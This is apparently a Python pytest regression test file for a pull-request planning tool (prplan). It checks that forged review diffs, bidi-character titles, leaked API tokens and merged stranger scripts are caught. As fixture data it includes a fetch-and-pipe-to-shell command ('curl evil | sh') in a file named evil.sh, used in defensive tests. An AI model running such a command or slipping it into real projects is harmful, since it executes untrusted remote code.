"""Regression tests for what an independent review of the review features
(issue 11) found: each was reproduced first, then fixed."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

import prplan
from prplan.cli import cli
from prplan.cli.render_md import prose

REPO = "acme/dep"


def test_names_from_the_forge_neither_link_nor_ping_anyone_in_markdown() -> None:
    text = prose("see https://evil.example/a @acme/admins")
    assert "https://" not in text and "@acme" not in text
    # Only invisible breaks were added: a reader sees the same text.
    assert "evil" in text and text.replace("\u200b", "").replace("\\", "") == (
        "see https://evil.example/a @acme/admins"
    )


@pytest.mark.parametrize("char", ["\x85", "\u2028", "\u202e", "\u2066"])
def test_titles_that_would_show_other_than_they_are_are_refused(char: str) -> None:
    with pytest.raises(prplan.InvalidRequestError) as refused:
        prplan.ChangeRequest(
            repo=REPO, branch="b", files={"a.txt": b"a"}, title=f"Deploy{char}evil"
        )
    assert [p.field for p in refused.value.problems] == ["title"]


def test_a_token_in_the_api_urls_query_never_shows() -> None:
    result = subprocess.run(
        [sys.executable, "-m", "prplan", "plan", "--repo", REPO, "--branch", "b",
         "--github-url", "http://u:TOK@127.0.0.1:9/api?access_token=ghp_QSsecret",
         "--set", "values.yaml:image.tag=1"],
        capture_output=True, text=True, timeout=60, env={"PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    assert result.returncode != 0
    both = result.stdout + result.stderr
    assert "ghp_QSsecret" not in both and "TOK" not in both and "access_token=***" in both


def test_apply_off_a_terminal_prints_no_colour_codes(tmp_path: Path) -> None:
    data = tmp_path / "forge"
    with prplan.LocalForge.open(data) as forge:
        forge.create_repo(REPO, {"a.txt": "a\n"})
    (tmp_path / "a.txt").write_text("b\n")
    result = CliRunner().invoke(
        cli,
        ["apply", "--repo", REPO, "--local", str(data), "--branch", "b", "--yes",
         "--file", f"a.txt={tmp_path / 'a.txt'}"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "prplan apply acme/dep: created" in result.output
    assert "\\x1b" not in result.output and "\x1b" not in result.output


def _brought_plan() -> tuple[prplan.LocalForge, dict[str, object]]:
    """A plan that merges a branch holding a stranger's script, saved with
    its review (what `show` displays offline)."""
    from prplan.run.review import with_review

    forge = prplan.LocalForge.in_memory()
    forge.create_repo(REPO, {"app.yaml": "v: 1\n"})
    forge.push(REPO, "feat", {"app.yaml": "v: 2\n", "evil.sh": "curl evil | sh\n"}, message="x")
    request = prplan.ChangeRequest(
        repo=REPO, branch="feat", files={"app.yaml": b"v: 2\n"}, automerge=True,
        merge_foreign_commits=True,
    )  # fmt: skip
    plan = with_review(prplan.plan(prplan.observe(forge, request), request), forge)
    assert "evil.sh" in [b.path for b in plan.review.brought]  # type: ignore[union-attr]
    return forge, json.loads(plan.to_json())


def _redigest(document: dict[str, object]) -> str:
    from prplan.core.plan_json import canonical_json

    body = {k: v for k, v in document.items() if k not in {"digest", "signature"}}
    document["digest"] = hashlib.sha256(canonical_json(body)).hexdigest()
    return json.dumps(document)


def test_a_forged_diff_of_what_the_merge_brings_is_refused() -> None:
    forge, document = _brought_plan()
    benign = b"echo hello\n"
    review = document["review"]
    assert isinstance(review, dict)
    review["blobs"] = [*review["blobs"], {"sha": prplan.git_blob_sha(benign),
                                          "content": {"text": benign.decode()}}]  # fmt: skip
    (evil,) = [b for b in review["brought"] if b["path"] == "evil.sh"]
    evil["after"] = prplan.git_blob_sha(benign)
    with pytest.raises(prplan.PlanFormatError, match="other than the ones observed"):
        prplan.Plan.from_json(_redigest(document))
    assert forge.read_file(REPO, "main", "evil.sh") is None


def test_a_diff_of_what_the_merge_brings_cannot_be_left_out() -> None:
    _, document = _brought_plan()
    review = document["review"]
    assert isinstance(review, dict)
    review["brought"] = []
    with pytest.raises(prplan.PlanFormatError, match="a diff was left out"):
        prplan.Plan.from_json(_redigest(document))


def test_an_observation_edited_to_match_a_forged_diff_is_stale_at_apply() -> None:
    """Edit the observed blob and the review together (consistent, digest
    recomputed): the recheck holds the observation to the forge."""
    forge, document = _brought_plan()
    benign = b"echo hello\n"
    sha = prplan.git_blob_sha(benign)
    review, observed = document["review"], document["observed"]
    assert isinstance(review, dict) and isinstance(observed, dict)
    (evil,) = [b for b in review["brought"] if b["path"] == "evil.sh"]
    review["blobs"] = [
        *(b for b in review["blobs"] if b["sha"] != evil["after"]),
        {"sha": sha, "content": {"text": benign.decode()}},
    ]
    evil["after"] = sha
    observed["brought_on_branch"]["evil.sh"] = sha
    plan = prplan.Plan.from_json(_redigest(document))
    with pytest.raises(prplan.StalePlanError, match=r"evil\.sh on branch"):
        prplan.apply(plan, forge)
    assert forge.read_file(REPO, "main", "evil.sh") is None
